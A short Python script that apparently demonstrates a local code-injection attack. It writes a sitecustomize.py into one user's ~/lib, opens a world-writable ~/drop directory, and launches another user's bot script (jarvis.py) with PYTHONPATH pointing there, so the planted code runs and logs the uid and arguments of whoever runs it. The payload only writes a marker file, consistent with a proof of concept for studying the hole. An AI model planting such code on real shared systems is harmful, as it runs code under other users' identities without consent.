"""As another local user: one process called like jarvis, with code of hers on the PYTHONPATH it was started with.

The code reports to `~/drop` whoever else runs it.
"""

import os
from pathlib import Path

home = Path.home()
(home / "lib").mkdir(exist_ok=True)
(home / "drop").mkdir(exist_ok=True)
(home / "drop").chmod(0o1777)
(home / "lib/sitecustomize.py").write_text(
    f"""
import os, sys, time
if os.getuid() == {os.getuid()}:
    time.sleep(3600)
try:
    open("{home}/drop/ran-as-%d" % os.getuid(), "a").write("%s" % sys.argv)
except OSError:
    pass
"""
)
os.chdir("/")
script = "/home/vinay/pub/IR/webex_bots/jarvis.py"
os.execve("/usr/bin/python3", ["python3", script], {"PYTHONPATH": f"{home}/lib"})
